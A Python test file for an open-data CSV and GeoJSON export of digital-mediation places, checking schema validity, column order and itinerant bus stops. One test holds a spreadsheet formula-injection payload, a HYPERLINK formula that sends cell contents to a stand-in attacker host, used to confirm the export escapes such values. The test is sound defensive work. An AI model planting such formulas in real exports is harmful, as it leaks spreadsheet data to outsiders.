"""The collection points' open-data CSV validates against the "lieux de médiation numérique"
Table Schema (v1.0.2, the official file, column order included) with frictionless, as the
standard's own CI validates files; an itinerant place says so and gives its next stops."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from pathlib import Path

import msgspec

from services.collection_point.demo import BUS, DEMO_PLACES, demo_tour
from services.collection_point.places.domain import Place
from services.collection_point.places.hours import parse_hours
from services.collection_point.places.itinerary import Stop
from services.collection_point.places.open_data import COLUMNS, places_csv, places_geojson
from tests.support.open_data import problems, schema_field_names, validated

WRITTEN = datetime(2026, 11, 28, tzinfo=UTC)


def _places() -> list[Place]:
    return [
        msgspec.convert(
            {
                **msgspec.to_builtins(fields),
                "id": str(uuid.uuid4()),
                "updated_at": WRITTEN.isoformat(),
            },
            Place,
        )
        for fields in DEMO_PLACES.values()
    ]


def test_the_demo_places_export_is_valid_open_data(tmp_path: Path) -> None:
    report = validated(places_csv(_places(), "Boucle"), tmp_path)
    assert report.valid, problems(report)


def test_the_export_has_the_standard_columns_in_order() -> None:
    header = places_csv(_places(), "Boucle").splitlines()[0].split(",")
    assert header == list(COLUMNS) == schema_field_names()


def test_a_malformed_postcode_would_be_caught_by_the_validation(tmp_path: Path) -> None:
    text = places_csv(_places()[:1], "Boucle").replace(",59000,", ",5900,")
    assert not validated(text, tmp_path).valid


def test_places_with_coordinates_are_a_geojson_feature_collection() -> None:
    collection = places_geojson(_places())
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == len(DEMO_PLACES)
    longitude, latitude = collection["features"][0]["geometry"]["coordinates"]
    assert 2.5 < longitude < 3.5 and 50 < latitude < 51  # Lille, longitude first


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_formula_like_names_are_written_as_text_and_the_export_stays_valid(
    tmp_path: Path,
) -> None:
    """A place typed as a formula opens as text; its number and phone columns keep their
    sign, which the schema's number type and +33 pattern need."""
    (place,) = _places()[:1]
    hostile = msgspec.structs.replace(
        place,
        name=HOSTILE,
        address="-2+3 rue de la Paix",
        commune="@SUM(1)",
        accessibility="\tRampe d'accès",
        opening_hours="+Mo-Fr 09:00-12:00",
        longitude=-1.553621,
        phone="+33320123456",
    )
    text = places_csv([hostile], "=Boucle")
    assert validated(text, tmp_path).valid, validated(text, tmp_path).flatten(
        ["fieldName", "message"]
    )
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["nom"] == "'" + HOSTILE
    assert row["adresse"] == "'-2+3 rue de la Paix"
    assert row["commune"] == "'@SUM(1)"
    assert row["presentation_detail"] == "'\tRampe d'accès"
    assert row["source"] == "'=Boucle"
    assert (row["longitude"], row["telephone"]) == ("-1.553621", "+33320123456")


def _bus_and_its_tour() -> tuple[list[Place], dict[uuid.UUID, list[Stop]]]:
    places = _places()
    bus = next(place for place in places if place.name == DEMO_PLACES[BUS].name)
    tour = demo_tour(WRITTEN).stops[:4]
    stops = [Stop(id=uuid.uuid4(), **msgspec.structs.asdict(stop)) for stop in tour]
    return places, {bus.id: stops}


def test_the_bus_is_itinerant_in_the_export_with_its_next_stops_as_its_hours(
    tmp_path: Path,
) -> None:
    places, stops = _bus_and_its_tour()
    text = places_csv(places, "Boucle", stops)
    report = validated(text, tmp_path)
    assert report.valid, problems(report)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    (bus_id,) = stops
    bus = rows[str(bus_id)]
    assert bus["itinerance"] == "Itinérant"
    assert {row["itinerance"] for key, row in rows.items() if key != str(bus_id)} == {"Fixe"}
    assert bus["horaires"].split("; ")[0] == "2026 Nov 28 09:30-12:30"
    assert parse_hours(bus["horaires"]) is not None  # the dated rules read as OSM hours
    assert (
        "Prochains arrêts : 28 nov. 2026 09:30-12:30, Parvis de la mairie (Comines)"
        in (bus["presentation_detail"])
    )


def test_the_geojson_has_a_point_for_each_next_stop_of_the_bus() -> None:
    places, stops = _bus_and_its_tour()
    ((bus_id, tour),) = stops.items()
    features = places_geojson(places, stops)["features"]
    of_stops = [f for f in features if f["properties"].get("place_id") == str(bus_id)]
    assert [f["id"] for f in of_stops] == [str(stop.id) for stop in tour]
    first = of_stops[0]
    assert first["geometry"]["coordinates"] == [3.0083, 50.7622]  # Comines, longitude first
    assert first["properties"]["commune"] == "Comines"
    assert first["properties"]["insee_code"] == "59152"
    assert first["properties"]["opening_hours"] == "2026 Nov 28 09:30-12:30"
    assert len(features) == len(DEMO_PLACES) + len(tour)
